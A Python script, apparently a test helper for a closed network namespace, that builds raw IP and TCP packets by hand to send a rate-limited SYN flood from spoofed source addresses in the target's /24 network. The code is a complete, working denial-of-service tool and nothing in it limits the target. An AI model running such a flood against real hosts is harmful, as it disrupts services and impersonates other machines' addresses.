"""A flood of half-open connections: SYNs from addresses at which nobody answers.

    syn_flood.py ADDRESS PORT PER_SECOND COUNT

Needs root; it is for a network namespace of a test, from which nothing gets out. Each SYN is from
another port of one of a hundred addresses of the target's /24 network, the upper ones, so what the
target answers is dropped where that network ends. Prints a line once the first is sent. Ends with the
last, or when stdin does.
"""

import ipaddress
import os
import select
import socket
import struct
import sys

SYN, HEAD_WORDS, WINDOW = 0x02, 5, 64240


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, source_port, target, port, number):
    def head(check):
        return struct.pack(
            "!HHIIBBHHH", source_port, port, number, 0, HEAD_WORDS << 4, SYN, WINDOW, check, 0
        )

    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 4 * HEAD_WORDS)
    tcp = head(checksum(pseudo + head(0)))
    # The kernel fills in the length and the checksum of this one.
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, number & 0xFFFF, 0, 64, socket.IPPROTO_TCP, 0, source, target) + tcp


def main():
    address, port, per_second, count = sys.argv[1], *map(int, sys.argv[2:5])
    target = socket.inet_aton(address)
    network = ipaddress.ip_network(f"{address}/24", strict=False)
    flood = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(count):
        source = network[150 + number % 100].packed
        source_port = 1024 + number // 100 % 60_000
        flood.sendto(syn(source, source_port, target, port, number), (address, 0))
        if number == 0:
            print("flooding", flush=True)
        readable, _, _ = select.select([sys.stdin.fileno()], [], [], 1 / per_second)
        if readable and not os.read(sys.stdin.fileno(), 4096):
            return


if __name__ == "__main__":
    main()
